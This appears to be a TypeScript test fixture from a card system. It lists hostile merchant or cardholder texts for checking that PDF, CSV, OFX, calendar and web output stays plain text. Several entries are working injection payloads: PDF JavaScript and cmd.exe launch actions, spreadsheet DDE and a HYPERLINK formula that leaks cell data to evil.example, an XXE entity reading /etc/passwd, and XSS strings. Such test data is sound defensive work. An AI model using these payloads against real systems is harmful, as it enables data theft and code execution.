/**
 * Names and descriptions that merchants, card holders or clients could choose. In a PDF, CSV, OFX, calendar file or page,
 * each must remain plain text. If executed, a text with a script would set `window.ran`.
 */
const RUN = 'window.ran=1';

/** Texts that close a string, an object or the file of a PDF and start an action. */
export const PDF_SYNTAX = [
  ') Tj ET /JS (app.alert(1)) BT (',
  ')>> endobj 9 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj',
  '<</OpenAction <</S /Launch /F (cmd.exe)>> /AA <</O 9 0 R>>>>',
  'endstream endobj xref 0 1 trailer <</Root 9 0 R>>',
  '%%EOF\n%PDF-1.7\n1 0 obj <</Type /Catalog>>',
  '/URI (javascript:app.alert(1)) /S /URI /Type /EmbeddedFile',
  '((((((((((unbalanced',
  'unbalanced))))))))))\\',
  '\\) \\( \\\\ \\051 \\n',
  '<feff> <0041> [ /Name ] << >> BT ET EMC BDC',
  'EMC /P <</MCID 0>> BDC /Artifact BMC',
] as const;

/** Characters that change the direction of the surrounding text, are invisible, or have no glyph. */
export const ODD_LETTERS = [
  'shop\u202Efdp.exe\u202C \u2067rtl\u2069 \u061C\u200F',
  'zero\u200Bwidth\u2060\uFEFF\u00AD joined',
  `Z${'\u0301'.repeat(60)}algo`,
  'W'.repeat(120),
  '寶'.repeat(120),
  'בית קפה مقهى \u{1F600}\u{10FFFF}',
] as const;

/** Texts that become a formula in a spreadsheet, at the start of a cell or after a separator. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Statement")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0001=1+1',
  '＝1+1',
  '﹦1+1',
  '＋1',
  '﹣1',
  '－1',
  '＠SUM(1)',
  'a;=1+1',
  'a; =1+1;+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n@SUM(1)',
  'a","=1+1',
  '"=1+1"',
  'a,=1+1',
] as const;

/** Texts that close a markup element or a calendar line and start another element or line. */
export const OTHER_FILES = [
  '</NAME></STMTTRN><STMTTRN><TRNAMT>-9999</TRNAMT><NAME>x',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ']]><![CDATA[ &amp;lt; &#60; &#x3C;?xml?> <?OFX?>',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y',
  'x\nATTACH:https://evil.example/\rURL:https://evil.example/',
] as const;

/** Texts that run as a script when a page writes them as HTML, as an address or as a template. */
export const SCRIPTS = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `"><svg onload=${RUN}>`,
  `'-(${RUN})-'`,
  `javascript:${RUN}`,
  `\${${RUN}} {{${RUN}}} #{${RUN}} <%= ${RUN} %>`,
  `</script></style></textarea><img src=https://evil.example/x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
] as const;

/** All hostile texts; each fits a description of the card system (120 characters). */
export const HOSTILE_TEXTS: readonly string[] = [
  ...PDF_SYNTAX,
  ...ODD_LETTERS,
  ...FORMULAS,
  ...OTHER_FILES,
  ...SCRIPTS,
];
